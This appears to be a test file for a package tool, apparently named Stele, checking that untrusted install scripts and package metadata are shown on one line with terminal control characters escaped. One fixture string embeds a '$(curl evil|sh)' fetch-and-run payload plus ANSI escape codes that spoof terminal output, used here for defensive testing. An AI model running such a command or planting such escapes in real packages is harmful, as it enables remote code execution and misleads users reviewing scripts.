// What strangers chose must not look like something that Stele says.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { approve } from '../src/commands/approve.ts'
import { runnable } from '../src/commands/command.ts'
import { describeInstall } from '../src/commands/install-input.ts'
import { announce } from '../src/scripts/events.ts'
import { quietInput } from './command-input.ts'

const forged = 'x=_auth=$(curl evil|sh) #\u001b[2K\u001b[1G\n  postinstall: node ok.js'
const shown = 'x=_auth=$(curl evil|sh) #\\u001b[2K\\u001b[1G\\n  postinstall: node ok.js'

test('approve shows a script on one line, without what drives a terminal', () => {
  const text = approve.view({
    packages: [
      {
        package: 'a@1.0.0',
        verdict: 'open',
        scripts: [['postinstall', forged]],
        files: [{ path: '/p/\u001b[2K\nx.js', lines: 3 }],
      },
    ],
    decided: [],
    isDenied: false,
    isCheck: false,
  })
  assert.deepEqual(text.split('\n').slice(0, 4), [
    'a@1.0.0',
    `  postinstall: ${shown}`,
    '    /p/\\u001b[2K\\nx.js (3 lines)',
    '',
  ])
})

test('announce() says a script on one line, without what drives a terminal', () => {
  const lines: string[] = []
  const manifest = { name: 'a\u001b[2K', version: '1.0.0\n> b@1.0.0 test' }
  const say = (line: string): void => void lines.push(line)
  announce({ folder: '/p', manifest }, { event: 'postinstall', script: forged, say })
  assert.deepEqual(lines, ['> a\\u001b[2K@1.0.0\\n> b@1.0.0 test postinstall', `> ${shown}`])
})

test('describeInstall() has a line for each peer that does not fit, whatever range a package asks for', () => {
  const mismatch = { by: 'a@1.0.0', name: 'b', wanted: '1\n3 packages: done', found: '2.0.0' }
  const nothing = { added: [], removed: 0, isChanged: false, fetched: 0, changes: [], notices: [] }
  const text = describeInstall(
    { ...nothing, packages: 1, mismatches: [mismatch], tookMs: 0 },
    'all changes',
  )
  const [first = '', ...others] = text.split('\n')
  assert.equal(first, 'a@1.0.0 wants the peer b@1\\n3 packages: done, and finds 2.0.0')
  assert.ok(
    others.every((line) => !line.includes('done')),
    'no command is made of it',
  )
})

test('a command shows no control characters, whatever its view has', async () => {
  const usage = { name: 'x', summary: '', arguments: '', options: {} }
  const run = async (): Promise<string> => 'one\u001b[2K\n\ttwo'
  const { execute } = runnable({ usage, run, view: (text) => text })
  const { text } = await execute({ ...quietInput, positionals: [] })
  assert.equal(text, 'one\\u001b[2K\n\ttwo')
})

test('describeInstall() shows what package.json names before the rest, of which many are only counted', () => {
  const change = (name: string) => ({ name, from: [], to: ['1.0.0'], isDirect: name === 'z' })
  const changes = ['a', 'b', 'z', ...Array.from({ length: 40 }, (_, at) => `c${at}`)].map(change)
  const nothing = {
    added: [],
    removed: 0,
    isChanged: true,
    fetched: 0,
    notices: [],
    mismatches: [],
  }
  const report = { ...nothing, packages: 43, changes, tookMs: 0 }
  const lines = describeInstall(report, 'all changes').split('\n')
  assert.deepEqual(lines.slice(0, 3), ['+ z 1.0.0', '+ a 1.0.0', '+ b 1.0.0'])
  assert.equal(lines[30], '  and 13 more')
})
